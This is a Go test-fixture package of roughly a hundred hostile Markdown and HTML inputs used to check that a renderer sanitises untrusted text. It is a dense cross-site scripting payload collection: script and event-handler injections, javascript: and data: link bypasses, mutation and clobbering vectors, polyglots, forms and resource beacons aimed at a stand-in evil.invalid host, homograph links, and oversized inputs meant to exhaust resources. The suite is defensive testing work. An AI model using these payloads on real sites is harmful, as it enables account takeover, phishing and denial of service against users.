// Package hostiletest is Markdown that tries to do something in the browser of who
// reads it. What succeeds sets window.cairnOwned, or document.title to "owned", opens
// a dialog, adds a form or frame, or asks a host below invalid. for something.
package hostiletest

import (
	"encoding/base64"
	"strings"
)

// Body is one text.
type Body struct{ Name, Text string }

// do is what a script would run.
const do = `window.cairnOwned=1;document.title='owned';alert(1)`

// pixel is an image of one point.
const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="

// Bodies are all texts, at least 65.
func Bodies() []Body {
	all := []Body{
		{"script", `<script>` + do + `</script>`},
		{"script block", "text\n\n<script>\n" + do + "\n</script>\n\ntext"},
		{"script, case and slash", `<ScRiPt/x>` + do + `</sCrIpT >`},
		{"script from elsewhere", `<script src=//evil.invalid/x.js></script><script src="https://evil.invalid/x.js" async></script>`},
		{"script that is never closed", `<script>` + do},
		{"script in a script", `<scr<script>ipt>` + do + `</scr</script>ipt>`},
		{"image onerror", `<img src=x onerror="` + do + `">`},
		{"image onerror without quotes", `<img src=x onerror=window.cairnOwned=1//`},
		{"image, slash for blank", `<img/src=x/onerror=alert(1)>`},
		{"image with a back-quote", "<img src=`x` onerror=`alert(1)`>"},
		{"image of another site", `![seen](https://evil.invalid/pixel.png)`},
		{"image of another site by reference", "![seen][r]\n\n[r]: https://evil.invalid/pixel2.png"},
		{"image of another site in a link", `[![seen](https://evil.invalid/3.png)](https://evil.invalid/4)`},
		{"image without a scheme", `![seen](//evil.invalid/5.png)`},
		{"image from the server's own forms", `![x](/logout) ![x](/projects/x/overseer)`},
		{"srcset and picture", `<picture><source srcset="https://evil.invalid/6.png"><img srcset="https://evil.invalid/7.png 2x"></picture>`},
		{"event handlers", `<b onmouseover=alert(1) onclick=alert(1) onfocus=alert(1) tabindex=1 autofocus>x</b><details open ontoggle=alert(1)>y</details>`},
		{"body and html handlers", `<body onload=alert(1)><html onmouseenter=alert(1)>`},
		{"audio and video", `<audio src=x onerror=alert(1)></audio><video autoplay src=https://evil.invalid/v.mp4><source onerror=alert(1)></video>`},
		{"marquee", `<marquee onstart=alert(1)>x</marquee>`},
		{"animation", `<div style="animation:x" onanimationstart=alert(1)>x</div><style>@keyframes x{}</style>`},
		{"javascript link", `[x](javascript:` + do + `)`},
		{"javascript link, case", `[x](JaVaScRiPt:alert%281%29)`},
		{"javascript link, blanks before", `[x](  javascript:alert(1)) [y](<  javascript:alert(1)>)`},
		{"javascript link, entity", `[x](javascript&colon;alert(1)) [y](&#106;avascript:alert(1)) [z](&#x6A&#x61;vascript:alert(1))`},
		{"javascript link, entities without end", `[x](&#0000106&#0000097&#0000118&#0000097script:alert(1))`},
		{"javascript link, tab and newline", "[x](java\tscript:alert(1)) [y](<java&Tab;script:alert(1)>) [z](java&NewLine;script:alert(1)) [w](<java\u0001script:alert(1)>)"},
		{"javascript link, control character before", "[x](\u0001javascript:alert(1)) [y](&#1;javascript:alert(1)) [z](&#14;javascript:alert(1))"},
		{"javascript link, null", "[x](java\x00script:alert(1)) [y](java&#0;script:alert(1))"},
		{"javascript link, backslash", `[x](javascript\:alert(1)) [y](\javascript:alert(1))`},
		{"javascript link, percent", `[x](javascript%3Aalert(1)) [y](%6aavascript:alert(1))`},
		{"javascript link, full width", `[x](ｊavascript:alert(1)) [y](javascript：alert(1))`},
		{"javascript autolink", `<javascript:alert(1)> <JAVASCRIPT:alert(1)>`},
		{"javascript by reference", "[x][a] [a] [b]\n\n[a]: javascript:alert(1) \"x\"\n[b]: <javascript:alert(1)>"},
		{"javascript image", `![x](javascript:alert(1)) ![y](vbscript:x)`},
		{"javascript behind http", `[x](https://evil.invalid/%0ajavascript:alert(1)) [y](http:javascript:alert(1)) [z](https:javascript:alert(1))`},
		{"vbscript and others", `[a](vbscript:msgbox(1)) [b](livescript:x) [c](mocha:x) [d](jar:x) [e](view-source:x) [f](file:///etc/passwd) [g](blob:x) [h](filesystem:x) [i](chrome://settings) [j](about:blank)`},
		{"data link", `[x](data:text/html,<script>alert(1)</script>) [y](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [z](DATA:TEXT/HTML,x)`},
		{"data image that is a page", `![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`},
		{"data image that is SVG", `![x](data:image/svg+xml;base64,` + base64.StdEncoding.EncodeToString([]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)) + `)`},
		{"data image that breaks out", `![x](data:image/png;base64,AAAA" onerror="alert(1)) ![y](data:image/png;base64,AAAA'onerror=alert(1)//)`},
		{"data image that is an image", `![a "point" <b>](data:image/png;base64,` + pixel + `)`},
		{"alt that breaks out", `![" onerror="alert(1)](data:image/png;base64,` + pixel + `) !['><script>alert(1)</script>](data:image/png;base64,` + pixel + ")![\u202e\u0001](data:image/png;base64," + pixel + ")"},
		{"link that breaks out", `[x](https://evil.invalid/"onmouseover="alert(1)) [y](<https://evil.invalid/' onclick='alert(1)>) [z](https://evil.invalid/><script>alert(1)</script>)`},
		{"title that breaks out", `[x](https://evil.invalid/ "a\" onmouseover=\"alert(1)") [y](https://evil.invalid/ 'x"><script>alert(1)</script>') [z](https://evil.invalid/ (*[n](javascript:alert(1))*))`},
		{"markdown in a link's text", `[*a* [b](javascript:alert(1)) <script>alert(1)</script> ![c](javascript:alert(1))](https://evil.invalid/)`},
		{"autolink that breaks out", `<https://evil.invalid/"onclick="alert(1)> https://evil.invalid/"onclick="alert(1) www.evil.invalid/<script>alert(1)</script>`},
		{"mail address that breaks out", `<mailto:"onclick="alert(1)@evil.invalid> x@evil.invalid"onclick="alert(1)`},
		{"svg", `<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x dur=1s></svg>`},
		{"svg use and foreignObject", `<svg><use href="data:image/svg+xml,x"/><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`},
		{"svg link", `<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a><set attributeName=href to=javascript:alert(1)></svg>`},
		{"math", `<math><maction actiontype="statusline#http://evil.invalid" xlink:href="javascript:alert(1)">x</maction></math>`},
		{"math and mglyph", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`},
		{"iframe", `<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src=https://evil.invalid/></iframe>`},
		{"frameset, object, embed, applet", `<frameset><frame src=javascript:alert(1)></frameset><object data=javascript:alert(1)></object><embed src=javascript:alert(1)><applet code=x></applet>`},
		{"style", `<style>body{background:url(https://evil.invalid/s.png)}@import 'https://evil.invalid/s.css';</style><p style="background:url(https://evil.invalid/t.png);position:fixed;inset:0">x</p>`},
		{"stylesheet", `<link rel=stylesheet href=https://evil.invalid/s.css><link rel=preload as=image href=https://evil.invalid/p.png><link rel=prefetch href=https://evil.invalid/q>`},
		{"base", `<base href="https://evil.invalid/"> [x](relative)`},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=https://evil.invalid/"><meta http-equiv=refresh content="0;javascript:alert(1)">`},
		{"form", `<form action="https://evil.invalid/" method=post><input name=token autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>Sign in</button></form>`},
		{"form around the page", `</article></main><form action=/logout method=post><input type=submit>`},
		{"input, select, textarea, keygen, isindex", `<input type=image src=https://evil.invalid/i.png onerror=alert(1)><select onfocus=alert(1) autofocus></select><textarea autofocus onfocus=alert(1)></textarea><isindex type=image src=1 onerror=alert(1)>`},
		{"dialog and popover", `<dialog open>signed out</dialog><div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>y</button>`},
		{"end of the page", `</article></main></body></html><script>alert(1)</script>`},
		{"comment", `<!-- <script>alert(1)</script> --> <!--> <script>alert(1)</script> --!> <script>alert(1)</script> <!-->`},
		{"conditional comment", `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`},
		{"CDATA", `<![CDATA[<script>alert(1)</script>]]> <svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`},
		{"processing instruction", `<?xml version="1.0"?><?xml-stylesheet href="javascript:alert(1)"?><? php alert(1) ?>`},
		{"doctype", `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;`},
		{"mutation, noscript", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`},
		{"mutation, template", `<template><script>alert(1)</script></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>`},
		{"mutation, title and textarea", `<title><img title="</title><img src=x onerror=alert(1)>"></title><textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`},
		{"mutation, style in svg", `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`},
		{"mutation, form in math", `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`},
		{"mutation, xmp, plaintext, noembed, noframes", `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp><noembed><img src=x onerror=alert(1)></noembed><noframes></noframes><plaintext>`},
		{"mutation, select", `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>">`},
		{"clobbering", `<img name=getElementById><form id=location><input name=parentNode></form><a id=cookie></a>`},
		{"cell that breaks out", "| a | b |\n|---|:-:|\n| <script>alert(1)</script> | `</td><script>alert(1)</script>` |\n| \\| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) | extra | |"},
		{"alignment that breaks out", "| a |\n|:-\"onclick=alert(1):|\n| b |"},
		{"task list", "- [ ] <script>alert(1)</script>\n- [x] <input type=text autofocus onfocus=alert(1)>\n- [\"onclick=alert(1)] x"},
		{"language that breaks out", "```\"onmouseover=\"alert(1)\n<script>alert(1)</script>\n```\n\n~~~ <script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n~~~"},
		{"fence that is never closed", "```html\n<script>alert(1)</script>\n</code></pre><img src=x onerror=alert(1)>"},
		{"entities in code", "`&lt;script&gt;` `<script>alert(1)</script>` ``` ` ```\n\n    &lt;script&gt;alert(1)&lt;/script&gt;\n    <script>alert(1)</script>"},
		{"entities in text", `&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;`},
		{"entities of entities", `&amp;lt;script&amp;gt; &amp;amp;lt;img src=x onerror=alert(1)&amp;amp;gt; &amp;#60;script&amp;#62;`},
		{"footnotes", "text[^1] and [^<script>]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))\n[^<script>]: x"},
		{"heading that would be an id", "# cookie {#location onclick=alert(1)}\n\n## <script>alert(1)</script> {onmouseover=alert(1)}\n\nx\n=== "},
		{"math and diagrams", "$$\\href{javascript:alert(1)}{x}$$\n\n```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\nclick A \"javascript:alert(1)\"\n```"},
		{"emoji and mentions", `:<script>: @<script>alert(1)</script> #<img/src=x/onerror=alert(1)>`},
		{"quoted script", "> <script>\n> alert(1)\n> </script>\n<img src=x onerror=alert(1)>\n> - > 1. > <svg onload=alert(1)>"},
		{"null bytes", "<scr\x00ipt>alert(1)</script> <img src=x onerr\x00or=alert(1)> \x00"},
		{"control characters", "\x1b]0;owned\x07 <img\x0bsrc=x\x0conerror=alert(1)> \x7f \u0085 \ufeff<script>alert(1)</script>"},
		{"invalid UTF-8", "\xff\xfe<script>alert(1)</script>\xc0\xbcscript\xc0\xbe \xed\xa0\x80"},
		{"UTF-7", `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`},
		{"full-width and other brackets", `＜script＞alert(1)＜/script＞ ‹script› ˂script˃ ʺ onclick=alert(1)`},
		{"direction of writing", "access \u202egnp.exe\u202c \u2066admin\u2069 \u200f [\u202etxt.x](https://evil.invalid/\u202egpj.x) https://evil.invalid/\u2066x"},
		{"homographs", `[https://bank.example](https://evil.invalid) https://аpple.com <https://xn--80ak6aa92e.com> [x](https://bank.example@evil.invalid/)`},
		{"combining marks", "Z" + strings.Repeat("\u0335\u0321\u0489", 3000)},
		{"separators", "[x](javascript\u2028:alert(1)) \u2028<script>alert(1)</script>\u2029 [y](\u00a0javascript:alert(1)) [z](\ufeffjavascript:alert(1))"},
		{"the rest of a page", `"><svg/onload=alert(1)>'"><img src=x onerror=alert(1)>{{alert(1)}}${alert(1)}<%= alert(1) %>`},
		{"polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"},
	}
	return append(all, large()...)
}

// large are those texts that would keep a browser or a server busy.
func large() []Body {
	const mega = 1 << 20
	repeated := func(s string, n int) string { return strings.Repeat(s, n) }
	return []Body{
		{"10,000 quotes", repeated(">", 10_000) + " <script>alert(1)</script>"},
		{"10,000 lists", repeated("- ", 10_000) + "<script>alert(1)</script>"},
		{"10,000 emphases", repeated("*a ", 10_000) + "<script>alert(1)</script>" + repeated(" a*", 10_000)},
		{"10,000 brackets", repeated("[", 10_000) + "x](javascript:alert(1)" + repeated(")", 10_000)},
		{"10,000 elements", repeated("<div>", 10_000) + "<script>alert(1)</script>"},
		{"one line of a megabyte", repeated("<img src=x onerror=alert(1)> ", mega/29)},
		{"references that make much of little", "[a]: https://evil.invalid/" + repeated("x", 1900) + "\n\n" + repeated("[a] ", 20_000)},
		{"rows that make much of little", repeated("|a", 100) + "\n" + repeated("|-", 100) + "\n" + repeated("b\n", 5_000)},
	}
}
